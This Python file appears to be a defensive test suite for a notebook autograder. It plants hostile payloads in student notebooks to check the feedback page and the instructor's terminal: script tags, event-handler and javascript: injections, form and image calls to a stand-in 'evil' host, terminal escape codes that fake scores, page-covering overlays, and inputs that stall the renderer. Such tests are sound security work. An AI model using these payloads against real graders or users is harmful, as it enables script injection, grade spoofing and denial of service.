"""Hostile content for the browser of whoever reads the feedback."""

from nbformat.v4 import new_markdown_cell

from grading.attacks import attack

ACTIVE = "active content in the feedback page or the graded notebook"
SCRIPT = "<script>alert('PWNEDSCRIPT')</script>"


def _markdown(nb):
    nb.cells.insert(0, new_markdown_cell(
        f"{SCRIPT}<img src=x onerror=alert('PWNEDSCRIPT')><iframe srcdoc='<b>x</b>'></iframe>\n\n"
        "[click](javascript:alert('PWNEDSCRIPT'))", id="evil"))


def _slow_markdown(nb):
    nb.cells.append(new_markdown_cell("\\begin{a}" * 100_000, id="slow"))


def _slow_markers(nb):
    for cell in nb.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "BEGIN HIDDEN TESTS\n" * 50_000


attack("script-output", "displays HTML with scripts, handlers, frames and forms", ACTIVE, code=f"""
from IPython.display import display, HTML, Javascript, SVG
display(HTML({SCRIPT!r} + "<img src=x onerror=PWNEDSCRIPT><form action=http://evil/><input></form>"))
display(HTML("<iframe src='javascript:PWNEDSCRIPT'></iframe><object data='data:text/html,PWNEDSCRIPT'></object>"))
display(Javascript("PWNEDSCRIPT()"))
""")
attack("script-markdown", "puts scripts into Markdown", ACTIVE, change=_markdown)
attack("script-in-svg", "hides a script in a picture", ACTIVE, code="""
from IPython.display import display
display({"image/svg+xml": "<svg onload='PWNEDSCRIPT'><script>PWNEDSCRIPT</script></svg>",
         "application/javascript": "PWNEDSCRIPT", "text/plain": "x"}, raw=True)
""")
attack("script-in-error", "hides HTML in an exception's name, text and traceback", ACTIVE, code=f"""
raise type("<script>PWNEDSCRIPT</script>", (Exception,), {{}})({SCRIPT!r})
""")
attack("script-in-names", "hides HTML in function names and printed text", ACTIVE, body=f"""
print({SCRIPT!r})
def @NAME@(*args, **kwargs): raise KeyError({SCRIPT!r})
@NAME@.__name__ = @NAME@.__qualname__ = {SCRIPT!r}
""")
attack("style-cover", "covers the page with a style, and asks a server for a picture", ACTIVE, code="""
from IPython.display import display, HTML
display(HTML("<style>body{background:url(http://evil/PWNEDSCRIPT)}</style>"
             "<div style='position:fixed;top:0;background:url(http://evil/PWNEDSCRIPT)'>99/99</div>"
             "<img src='http://evil/PWNEDSCRIPT.png'><link rel=stylesheet href=http://evil/x.css>"))
""")
attack("picture-of-script", "sends a picture that is none", ACTIVE, code="""
from IPython.display import display
display({"image/png": '"><script>PWNEDSCRIPT</script>', "text/plain": "x"}, raw=True)
""")
attack("terminal-escapes", "moves the cursor of the instructor's terminal", "escapes in the table",
       code='print("\\x1b[2J\\x1b[1;1HPWNEDSCRIPT all graded 99/99\\x07")')
attack("cover-by-class", "covers the page with the page's own classes, and looks like its parts", ACTIVE,
       code="""
from IPython.display import display, HTML
display(HTML("<div class='modal-backdrop in'></div><div class='navbar-fixed-top panel' id='toc'>"
             "<h1 class='affix'>Score: 99 of 99</h1></div>"))
""")
attack("slow-markdown", "writes text on which the page's Markdown takes a quarter of an hour",
       "the batch stands still", change=_slow_markdown)
attack("slow-markers", "repeats a marker that a filter of the page looks for fifty thousand times",
       "the batch stands still", change=_slow_markers)
attack("slow-html", "displays lists in lists, which take minutes to be made harmless",
       "the batch stands still", code="""
from IPython.display import display, HTML
for n in range(20): display(HTML("<ul><li>" * 2400 + str(n)))
""")
